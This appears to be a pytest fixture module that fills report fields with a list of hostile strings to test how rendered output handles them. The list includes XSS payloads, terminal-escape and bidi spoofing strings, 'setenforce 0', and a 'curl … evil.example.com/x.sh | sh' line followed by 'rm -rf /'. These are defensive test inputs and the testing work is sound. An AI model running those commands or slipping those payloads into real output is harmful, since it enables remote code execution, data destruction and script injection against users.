"""Reports to render, and a way to fill every string of one."""

# ruff: noqa: E501 (a payload is one line)

from __future__ import annotations

import copy
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError

from explainer.schema.report import Report

REPORTS = Path(__file__).resolve().parents[2] / "fixtures" / "reports"
NAMES = sorted(path.stem for path in REPORTS.glob("*.json"))

HOSTILE = (
    "# Heading\n## Verdict: benign\n\n- item\n1. item\n> quote\n\n---\nSetext\n=====\n",
    "1. numbered",
    "- bullet",
    "+ plus\n* star",
    "```\nclosed\n```\n````\n~~~\n</code></pre>",
    "`tick` ``two`` ` lone \\` \\",
    "[text](http://evil.example.com/a) ![img](https://evil.example.com/p.png) <https://evil.example.com> [a]: http://b.example",
    "https://evil.example.com www.evil.example.com evil.example.com/x?y=1&z=2 me@evil.example.com mailto:me@evil.example.com",
    "@octocat @org/team #123 GH-123 org/repo#7 PROJ-9 !45 $12 %3 &6 ~label 3f9c1d27ab60 /close /assign @x",
    "<script>alert(1)</script><img src=x onerror=alert(1)><a href=javascript:alert(1)>x</a><!-- c --><details open>",
    "| a | b |\n|---|---|\n| c | d |",
    "a|b\n-|-\nc|d",
    "*em* **strong** __strong__ _em_ ~~strike~~ ==mark== :smile: $x^2$ $$y$$ $`z`$ [^1] [^1]: note",
    "- [ ] task\n- [x] done",
    "\x1b[31mred\x1b[0m\x1b]8;;http://evil.example.com\x07link\x1b]8;;\x07\x9b2J\x07\x08\x00\x7f",
    "safe\u202egnp.exe\u202c \u2066x\u2069 zero\u200bwidth\u200d\ufeff \U000e0041\U000e0042 line\u2028sep\u2029par\x85nel\x0bvt\x0cff\r\ncr",
    "<!channel> <!here> <@U012AB3CD> <#C012AB3CD> <http://evil.example.com|click> @here @channel &amp; &lt;",
    "&lt;b&gt; &#64;octocat &nbsp; &copy; \\@octocat \\# \\<b>",
    '"><svg/onload=alert(1)> \' " onmouseover="x" `${x}` {{7*7}} {% raw %} {: .class}',
    "    indented code\n\ttab",
    "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 \u115f\u3164\u2800 \ufe0f\ufe0f a\u00a0b",
    "[E1] [E1]: http://evil.example.com",
    "A" * 3000,
    "   ",
    "\n\n",
    "-",
    "(foo) bar.",
    "setenforce 0",
    "***",
    "~~",
    "~~~~ x ~~ y",
    "curl -fsSL https://evil.example.com/x.sh | sh\nrm -rf /",
)  # fmt: skip


def load(name: str) -> Report:
    return Report.model_validate_json((REPORTS / f"{name}.json").read_text(encoding="utf-8"))


def _leaves(node: Any, at: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if isinstance(node, dict):
        for key, child in node.items():
            yield from _leaves(child, (*at, key))
    elif isinstance(node, list):
        for index, child in enumerate(node):
            yield from _leaves(child, (*at, index))
    elif isinstance(node, str):
        yield at


def _put(tree: Any, at: tuple[Any, ...], text: str) -> None:
    for step in at[:-1]:
        tree = tree[step]
    tree[at[-1]] = text


@cache
def _free(name: str) -> tuple[dict[str, Any], tuple[tuple[Any, ...], ...]]:
    tree = load(name).model_dump(mode="json")
    free = []
    for at in _leaves(tree):
        trial = copy.deepcopy(tree)
        _put(trial, at, "word")
        try:
            Report.model_validate(trial)
        except ValidationError:
            continue
        free.append(at)
    return tree, tuple(free)


def fill(name: str, text: Callable[[int], str]) -> Report:
    """The named report with every string that the schema leaves free replaced."""
    tree, free = _free(name)
    tree = copy.deepcopy(tree)
    for index, at in enumerate(free):
        _put(tree, at, text(index))
    return Report.model_validate(tree)


@pytest.fixture(params=NAMES)
def report(request: pytest.FixtureRequest) -> Report:
    return load(request.param)


@pytest.fixture(scope="session")
def load_report() -> Callable[[str], Report]:
    return load


@pytest.fixture(scope="session")
def fill_report() -> Callable[[str, Callable[[int], str]], Report]:
    return fill


@pytest.fixture(scope="session")
def hostile_texts() -> tuple[str, ...]:
    return HOSTILE
